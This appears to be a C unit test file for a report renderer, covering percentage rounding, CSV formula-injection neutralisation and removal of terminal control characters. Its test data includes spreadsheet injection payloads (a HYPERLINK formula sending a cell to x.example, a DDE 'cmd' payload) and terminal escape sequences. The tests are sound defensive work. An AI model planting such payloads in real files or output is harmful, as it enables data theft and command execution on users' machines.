    cr_assert (strstr (s_line_with (text, "欧阳明华 (P002)"), "党组织 Org: B01"));
    free (text);
    json_decref (report);

    report = s_fixture ("cadre");
    text = s_render (report, ML_FORMAT_TEXT);
    cr_assert (strstr (text, "党组织 Org: 院党委 (D01)\n"), "%s", text);
    free (text);
    text = s_render (report, ML_FORMAT_HTML);
    cr_assert (strstr (text, "党组织 Org 院党委 (D01)"));
    free (text);
    json_decref (report);
}

Test (render, heat_map_and_tables_round_alike_half_up)
{
    json_t *report = s_fixture ("rollup");
    json_t *h001 = json_array_get (json_object_get (report, "units"), 0);
    //  0.947 and 0.9475 (whose double lies just below): 94.7 % and 94.8 % everywhere.
    json_object_set_new (h001, "compliance", json_real (0.947));
    json_t *sys1 = json_array_get (json_object_get (h001, "systems"), 0);
    json_object_set_new (sys1, "met", json_integer (379));
    json_object_set_new (sys1, "unmet", json_integer (21));
    json_object_set_new (sys1, "checked", json_integer (400));
    char *html = s_render (report, ML_FORMAT_HTML);
    cr_assert (strstr (html, ">94.7%</text>"), "heat map cell of 0.947 is not 94.7%%");
    cr_assert (strstr (html, ">94.8%</text>"), "heat map cell of 379/400 is not 94.8%%");
    cr_assert (strstr (html, "<td class=\"n\">94.7%</td>"), "table cell of 0.947 is not 94.7%%");
    cr_assert_null (strstr (html, ">94%</text>"));
    free (html);
    char *text = s_render (report, ML_FORMAT_TEXT);
    cr_assert (strstr (s_line_with (text, "H001 "), "94.7%"));
    free (text);
    json_object_set_new (h001, "compliance", json_real (0.9475));
    html = s_render (report, ML_FORMAT_HTML);
    cr_assert (strstr (html, "<td class=\"n\">94.8%</td>"), "0.9475 is not rounded half up");
    free (html);
    text = s_render (report, ML_FORMAT_CSV);
    json_t *records = s_csv_parse (text);
    cr_assert_str_eq (s_csv_field (records, 1, s_csv_column (records, "达标率")), "94.8%");
    json_decref (records);
    free (text);
    json_decref (report);
}

//  -------------------------------------------------------------------------
//  Issue 16: formula cells in CSV, control characters in text

//  What a user may type in a ledger that a spreadsheet would run.
static const char *const s_formulas [] = {
    "=HYPERLINK(\"http://x.example/?\"&A1,\"点击\")", "+1", "@SUM(A1:A9)", "-cmd|' /C calc'!A0",
    "\tTAB", "\rCR", NULL
};

//  Asserts that every field of RECORDS is either the report's own or a neutralised formula:
//  no field starts with = + - @ TAB CR unless it is a number; returns how many start with '.
static size_t
s_assert_no_formula (const json_t *records, const char *kind)
{
    size_t guarded = 0, row, col;
    json_t *record, *field;
    json_array_foreach (records, row, record)
        json_array_foreach (record, col, field) {
            const char *value = json_string_value (field);
            if (value [0] == '\'')
                guarded++;
            if (!value [0] || !strchr ("=+-@\t\r", value [0]))
                continue;
            char *end;
            strtod (value, &end);
            cr_assert (*end == 0 || strcmp (end, "%") == 0,
                       "%s csv: row %zu column %zu is a live formula: %s", kind, row, col, value);
        }
    return guarded;
}

//  Whether one field of RECORDS is exactly "'" followed by FORMULA.
static int
s_has_guarded (const json_t *records, const char *formula)
{
    size_t row, col;
    json_t *record, *field;
    json_array_foreach (records, row, record)
        json_array_foreach (record, col, field) {
            const char *value = json_string_value (field);
            if (value [0] == '\'' && strcmp (value + 1, formula) == 0)
                return 1;
        }
    return 0;
}

Test (render, csv_neutralises_formulas_in_text_of_every_report_kind)
{
    struct { const char *fixture; const char *array; const char *keys [3]; } kinds [] = {
        { "unit_annual", "persons", { "name", "person", NULL } },
        { "rollup", "units", { "unit_name", "unit", NULL } },
        { "cadre", NULL, { "name", "person", NULL } },
        { "bulletin", "units", { "unit_name", "unit", NULL } },
        { "watchlist", "rows", { "name", "text", "unit_name" } },
    };
    for (size_t k = 0; k < sizeof kinds / sizeof kinds [0]; k++) {
        json_t *report = s_fixture (kinds [k].fixture);
        json_t *items = kinds [k].array? json_object_get (report, kinds [k].array): NULL;
        size_t count = items? json_array_size (items): 1, used = 0;
        //  Each item gets a formula in each key, round the list of formulas.
        for (size_t i = 0; i < count; i++) {
            json_t *item = items? json_array_get (items, i): json_object_get (report, "person");
            for (size_t key = 0; key < 3 && kinds [k].keys [key]; key++)
                if (json_is_string (json_object_get (item, kinds [k].keys [key])))
                    json_object_set_new (item, kinds [k].keys [key],
                                         json_string (s_formulas [used++ % 6]));
        }
        if (k == 0) {
            //  A number the report computed stays a number, even negative.
            json_t *rule = json_array_get (json_object_get (
                json_array_get (json_object_get (report, "persons"), 0), "rules"), 0);
            json_object_set_new (rule, "actual", json_integer (-3));
        }
        char *text = s_render (report, ML_FORMAT_CSV);
        json_t *records = s_csv_parse (text);
        cr_assert_gt (s_assert_no_formula (records, kinds [k].fixture), 0, "%s", kinds [k].fixture);
        for (size_t f = 0; f < used && f < 6; f++)
            cr_assert (s_has_guarded (records, s_formulas [f]), "%s csv: %s is not neutralised",
                       kinds [k].fixture, s_formulas [f]);
        if (k == 0)
            cr_assert_str_eq (s_csv_field (records, 1, s_csv_column (records, "实际")), "-3");
        json_decref (records);
        json_decref (report);
        free (text);
    }
}

//  Asserts that TEXT holds no control character but LF: no ESC, BEL, CR, DEL or C1.
static void
s_assert_no_controls (const char *text, const char *what)
{
    for (const unsigned char *at = (const unsigned char *) text; *at; at++) {
        cr_assert (*at >= 0x20 || *at == '\n', "%s: control 0x%02x at byte %zu", what, *at,
                   (size_t) (at - (const unsigned char *) text));
        cr_assert (*at != 0x7F, "%s: DEL at byte %zu", what, (size_t) (at - (const unsigned char *) text));
        cr_assert (!(at [0] == 0xC2 && at [1] >= 0x80 && at [1] < 0xA0), "%s: a C1 control", what);
    }
}

Test (render, text_never_writes_control_characters_of_names)
{
    const char *evil = "张\x1b]0;pwned\a\x1b[2J\r李\x7f\xc2\x9b" "31m王";
    json_t *report = s_fixture ("unit_annual");
    json_object_set_new (report, "unit_name", json_string (evil));
    json_object_set_new (report, "unit", json_string ("H\x1b[1m1"));
    json_t *person = json_array_get (json_object_get (report, "persons"), 0);
    json_object_set_new (person, "name", json_string (evil));
    json_object_set_new (person, "org_name", json_string (evil));
    json_object_set_new (json_object_get (person, "metrics"), "x\x1b[5m", json_integer (1));
    char *text = s_render (report, ML_FORMAT_TEXT);
    s_assert_no_controls (text, "unit-annual");
    cr_assert (strstr (text, "单位 Unit: 张 ]0;pwned  [2J 李  31m王 (H [1m1)"), "%s", text);
    free (text);
    json_decref (report);

    report = s_fixture ("cadre");
    person = json_object_get (report, "person");
    json_object_set_new (person, "name", json_string (evil));
    json_object_set_new (person, "org", json_string ("B\r01"));
    json_object_set_new (report, "unit_name", json_string (evil));
    json_object_set_new (json_object_get (person, "metrics"), "\x1b[5m", json_integer (1));
    text = s_render (report, ML_FORMAT_TEXT);
    s_assert_no_controls (text, "cadre");
    cr_assert (strstr (text, "姓名 Name: 张 ]0;pwned  [2J 李  31m王 (P001)"), "%s", text);
    free (text);
    json_decref (report);

    const char *kinds [] = { "rollup", "bulletin", "watchlist" };
    for (size_t i = 0; i < 3; i++) {
        report = s_fixture (kinds [i]);
        json_object_set_new (report, "rules_version", json_string (evil));
        json_object_set_new (report, "period", json_string (evil));
        json_object_set_new (report, "as_of", json_string (evil));
        text = s_render (report, ML_FORMAT_TEXT);
        s_assert_no_controls (text, kinds [i]);
        free (text);
        json_decref (report);
    }
}

Test (render, text_safe_blanks_controls_and_cuts_on_a_character)
{
    char buf [64];
    cr_assert_str_eq (ml_text_safe ("a\x1b[31mb\a\r\n\tc\x7f", buf, sizeof buf), "a [31mb    c ");
    cr_assert_str_eq (ml_text_safe ("\xc2\x9b" "1m张", buf, sizeof buf), " 1m张");   //  C1 CSI
    cr_assert_str_eq (ml_text_safe ("\xff" "a", buf, sizeof buf), "?a");            //  not UTF-8
    cr_assert_str_eq (ml_text_safe ("\xef\xbf\xbd", buf, sizeof buf), "\xef\xbf\xbd");  //  U+FFFD itself
    cr_assert_str_eq (ml_text_safe (NULL, buf, sizeof buf), "");
    cr_assert_str_eq (ml_text_safe ("张三", buf, 5), "张");                           //  never half a character
    char in_place [] = "x\x1b" "y";
    cr_assert_str_eq (ml_text_safe (in_place, in_place, sizeof in_place), "x y");
}
